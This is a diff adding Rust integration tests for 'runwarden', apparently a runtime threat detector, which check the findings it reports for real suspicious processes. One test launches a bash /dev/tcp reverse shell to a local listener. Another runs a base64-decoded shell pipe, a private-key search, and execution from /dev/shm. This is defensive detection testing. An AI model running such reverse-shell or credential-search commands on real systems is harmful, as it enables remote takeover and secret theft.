@@ -1,0 +1,159 @@
+//! Findings end to end: real processes doing the real thing under runwarden, the findings read back
+//! from the file sink and checked field by field (SCC categories), plus the quiet side: an ordinary
+//! entrypoint chain yields nothing MEDIUM or above, and a broken policy stops the start.
+
+mod common;
+
+use std::io::{Read, Write};
+use std::net::TcpListener;
+use std::time::Duration;
+
+use common::*;
+use serde_json::Value;
+
+fn findings_of(path: &std::path::Path) -> Vec<Value> {
+    std::fs::read_to_string(path)
+        .unwrap_or_default()
+        .lines()
+        .map(|l| {
+            serde_json::from_str(l).unwrap_or_else(|e| panic!("not one JSON finding per line ({e}): {l}"))
+        })
+        .collect()
+}
+
+fn rw_with_sink(dir: &tempfile::TempDir) -> (std::process::Command, std::path::PathBuf) {
+    let sink = dir.path().join("findings.jsonl");
+    let mut cmd = rw();
+    cmd.env("RUNWARDEN_SINKS", format!("stderr,file:{}", sink.display()));
+    (cmd, sink)
+}
+
+#[test]
+fn scc_reverse_shell_over_dev_tcp() {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let attacker = std::thread::spawn(move || {
+        let (mut conn, _) = listener.accept().unwrap();
+        conn.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
+        conn.write_all(b"echo pwned-$((6*7))\nexit 0\n").unwrap();
+        let mut got = Vec::new();
+        let _ = conn.read_to_end(&mut got);
+        String::from_utf8_lossy(&got).into_owned()
+    });
+    let dir = tempfile::tempdir().unwrap();
+    let (mut cmd, sink) = rw_with_sink(&dir);
+    let script = format!("bash --norc --noprofile -i >& /dev/tcp/127.0.0.1/{port} 0>&1");
+    cmd.args(["--", "bash", "-c", &script]);
+    let out = run(&mut cmd, TIMEOUT);
+    out.assert_code(0);
+    assert!(attacker.join().unwrap().contains("pwned-42"), "the reverse shell did not run");
+
+    let findings = findings_of(&sink);
+    let rs: Vec<&Value> = findings.iter().filter(|f| f["category"] == "Reverse Shell").collect();
+    assert_eq!(rs.len(), 1, "one reverse shell, one finding (de-duplicated): {findings:#?}");
+    let f = rs[0];
+    assert_eq!(f["severity"], "CRITICAL");
+    assert_eq!(f["findingClass"], "THREAT");
+    assert_eq!(f["state"], "ACTIVE");
+    assert_eq!(f["action"], "ALERT");
+    assert_eq!(f["rule"]["id"], "reverse_shell_stdio_socket");
+    assert_eq!(f["mitreAttack"]["primaryTechniques"][0], "T1059.004");
+    let p = &f["processes"][0];
+    assert_eq!(p["name"], "bash");
+    assert_eq!(p["args"], serde_json::json!(["bash", "--norc", "--noprofile", "-i"]));
+    let stdin = p["stdio"]["stdin"].as_str().unwrap();
+    assert!(
+        stdin.starts_with("socket tcp 127.0.0.1:") && stdin.contains(&format!("->127.0.0.1:{port}")),
+        "{stdin}"
+    );
+    assert_eq!(p["binary"]["sha256"].as_str().unwrap().len(), 64);
+    assert!(f["externalUri"].as_str().unwrap().starts_with("https://www.virustotal.com/gui/file/"));
+    assert_eq!(f["ancestors"][0]["args"][0], "bash", "the parent is the bash -c that set up the redirection");
+    assert!(f["description"].as_str().unwrap().contains(&format!("127.0.0.1:{port}")));
+
+    // The same finding on stderr, in Cloud Logging's structured form.
+    let on_stderr: Vec<Value> =
+        out.logs().into_iter().filter(|l| l["finding"]["findingId"] == f["findingId"]).collect();
+    assert_eq!(on_stderr.len(), 1, "the stderr sink carries the same findingId");
+    assert_eq!(on_stderr[0]["severity"], "CRITICAL");
+    assert!(on_stderr[0]["message"].as_str().unwrap().starts_with("Reverse Shell: "));
+}
+
+#[test]
+fn scc_exec_categories_from_real_commands() {
+    let dir = tempfile::tempdir().unwrap();
+    let (mut cmd, sink) = rw_with_sink(&dir);
+    let shm = dir.path().join("x").display().to_string();
+    let script = format!(
+        "echo ZWNobyBkZWNvZGVk | base64 -d | sh; \
+         find / -maxdepth 1 -name id_rsa >/dev/null 2>&1; \
+         cp /bin/true /dev/shm/rw-test-$$ && /dev/shm/rw-test-$$; rm -f /dev/shm/rw-test-$$; \
+         cp /bin/true {shm} && HTTPS_PROXY=http://127.0.0.1:9 {shm}; true"
+    );
+    cmd.args(["--", "sh", "-c", &script]);
+    let out = run(&mut cmd, TIMEOUT);
+    out.assert_code(0);
+    assert!(out.stdout().contains("decoded"));
+    let findings = findings_of(&sink);
+    let cats: Vec<&str> = findings.iter().filter_map(|f| f["category"].as_str()).collect();
+    for want in [
+        "Defense Evasion: Base64 Encoded Shell Script Executed",
+        "Credential Access: Search Private Keys or Passwords",
+        "Privilege Escalation: Fileless Execution in /dev/shm",
+        "Execution: Program Run with Disallowed HTTP Proxy Env",
+    ] {
+        assert!(cats.contains(&want), "missing {want:?} in {cats:#?}");
+    }
+    let shm_finding = findings
+        .iter()
+        .find(|f| f["category"] == "Privilege Escalation: Fileless Execution in /dev/shm")
+        .unwrap();
+    assert_eq!(shm_finding["severity"], "HIGH");
+    assert!(shm_finding["processes"][0]["binary"]["path"].as_str().unwrap().starts_with("/dev/shm/rw-test-"));
+    let proxy = findings
+        .iter()
+        .find(|f| f["category"] == "Execution: Program Run with Disallowed HTTP Proxy Env")
+        .unwrap();
+    assert_eq!(proxy["processes"][0]["envVariables"][0]["name"], "HTTPS_PROXY");
+}
+
+#[test]
+fn benign_entrypoint_chain_gives_nothing_medium_or_above() {
+    let dir = tempfile::tempdir().unwrap();
+    let (mut cmd, sink) = rw_with_sink(&dir);
+    let cfg = dir.path().join("config.json");
+    let script = format!(
+        "set -e; echo eyJwb3J0IjogODA4MH0= | base64 -d > {cfg}; sed -i 's/8080/8081/' {cfg}; \
+         grep -q 8081 {cfg}; env | sort >/dev/null; id -u >/dev/null; ls / >/dev/null; \
+         python3 -c 'import json,sys,subprocess; json.load(open(sys.argv[1])); subprocess.run([\"true\"], check=True)' {cfg}; \
+         exec sleep 0.1",
+        cfg = cfg.display()
+    );
+    cmd.args(["--", "sh", "-c", &script]);
+    run(&mut cmd, TIMEOUT).assert_code(0);
+    let loud: Vec<Value> = findings_of(&sink)
+        .into_iter()
+        .filter(|f| matches!(f["severity"].as_str(), Some("MEDIUM" | "HIGH" | "CRITICAL")))
+        .collect();
+    assert!(loud.is_empty(), "benign start-up raised findings: {loud:#?}");
+}
+
+#[test]
+fn broken_policy_refuses_to_start_the_workload() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(dir.path().join("bad.yaml"), "rules:\n  - id: x\n    enabled: maybe\n").unwrap();
+    let marker = dir.path().join("ran");
+    let mut cmd = rw();
+    cmd.env("RUNWARDEN_POLICIES", dir.path()).args(["--", "touch", marker.to_str().unwrap()]);
+    let out = run(&mut cmd, TIMEOUT);
+    out.assert_code(2);
+    assert!(!marker.exists(), "the workload ran despite a broken policy");
+    assert!(out.stderr().contains("bad.yaml:2:"), "{}", out.stderr());
+
+    let check = run(rw().args(["policy", "check", dir.path().to_str().unwrap()]), TIMEOUT);
+    check.assert_code(2);
+    assert!(check.stderr().contains("rule x"), "{}", check.stderr());
+    let ok = run(rw().args(["policy", "check"]), TIMEOUT);
+    ok.assert_code(0);
+    assert!(ok.stdout().starts_with("policies OK: "), "{}", ok.stdout());
+}
